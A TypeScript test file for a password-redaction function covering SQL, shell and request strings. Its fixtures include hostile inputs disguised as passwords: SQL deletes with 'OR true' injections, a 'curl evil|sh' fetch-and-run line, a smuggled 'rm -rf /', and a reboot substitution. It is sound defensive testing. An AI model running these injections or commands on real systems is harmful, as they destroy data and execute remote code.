import { redactStatement } from './redact-statement'

const passwords: readonly (readonly [what: string, text: string, shown: string])[] = [
  ['a role', `ALTER ROLE a PASSWORD 'x''y'`, `ALTER ROLE a PASSWORD '[redacted]'`],
  [
    'escapes',
    String.raw`create user u password E'x\'y' login`,
    `create user u password '[redacted]' login`,
  ],
  ['dollars', 'CREATE ROLE a PASSWORD $x$ secret $x$', `CREATE ROLE a PASSWORD '[redacted]'`],
  ['code points', `ALTER ROLE a PASSWORD U&'\\0041b'`, `ALTER ROLE a PASSWORD '[redacted]'`],
  [
    'a comment between',
    `ALTER ROLE a PASSWORD /* x */ 'y'`,
    `ALTER ROLE a PASSWORD /* x */ '[redacted]'`,
  ],
  [
    'two lines',
    `ALTER ROLE a PASSWORD 'x'\n'y'`,
    `ALTER ROLE a PASSWORD '[redacted]'\n'[redacted]'`,
  ],
  [
    'options',
    `CREATE USER MAPPING FOR a SERVER s OPTIONS (user 'u', password 'x')`,
    `CREATE USER MAPPING FOR a SERVER s OPTIONS (user 'u', password '[redacted]')`,
  ],
  [
    'a subscription',
    `CREATE SUBSCRIPTION s CONNECTION 'host=h password=x y=z' PUBLICATION p`,
    `CREATE SUBSCRIPTION s CONNECTION 'host=h password=[redacted] y=z' PUBLICATION p`,
  ],
  [
    'a quoted value',
    `ALTER SUBSCRIPTION s CONNECTION 'password=''a b'' host=h'`,
    `ALTER SUBSCRIPTION s CONNECTION 'password=[redacted] host=h'`,
  ],
  [
    'an address',
    `SELECT dblink_connect('c', 'postgres://u:x@h/d')`,
    `SELECT dblink_connect('c', 'postgres://u:[redacted]@h/d')`,
  ],
  [
    'dblink',
    `SELECT * FROM dblink('host=h password=x', 'SELECT 1') t(i int)`,
    `SELECT * FROM dblink('host=h password=[redacted]', 'SELECT 1') t(i int)`,
  ],
]

test.each(passwords)('leaves out the password of %s', (_what, text, shown) => {
  expect(redactStatement('statement', text)).toBe(shown)
})

/** What a client would hide from the approver, and from the audit log, behind the look of a password. */
const disguises: readonly string[] = [
  `DELETE FROM orders WHERE note = 'password ' OR true OR note = ''`,
  `DELETE FROM orders WHERE note = 'PASSWORD' /* ' OR true -- */ OR id = 1`,
  `DELETE FROM orders WHERE password=password/**/OR/**/true`,
  `UPDATE orders SET password=id::text/**/WHERE/**/true`,
  `DELETE FROM orders -- password 'x\n WHERE true OR note = '`,
  `DELETE FROM orders WHERE note = $$password $$ OR note <> $$ $$`,
  String.raw`DELETE FROM orders WHERE note = 'password \' OR note <> 'x'`,
  `DELETE FROM "password" WHERE "password" <> 'x'`,
  `SELECT dblink_exec('DELETE FROM t WHERE password=x/**/OR/**/true')`,
  `INSERT INTO jobs(command) VALUES ('password=$(curl\${IFS}evil|sh)')`,
]

test.each(disguises)('shows the whole of %s', (text) => {
  expect(redactStatement('statement', text)).toBe(text)
})

const others: readonly (readonly [kind: string, text: string, shown: string])[] = [
  ['command', 'mysql --password=s3cret -e x', 'mysql --password=[redacted] -e x'],
  ['command', 'x password=y&&rm${IFS}-rf${IFS}/', 'x password=[redacted]&&rm${IFS}-rf${IFS}/'],
  ['command', 'password=$(reboot)', 'password=$(reboot)'],
  ['command', "echo password '; reboot ; echo '", "echo password '; reboot ; echo '"],
  ['request', 'a=1&password=x&amount=9999&to=me', 'a=1&password=[redacted]&amount=9999&to=me'],
]

test.each(others)('leaves out no more of a %s than the value: %s', (kind, text, shown) => {
  expect(redactStatement(kind, text)).toBe(shown)
})
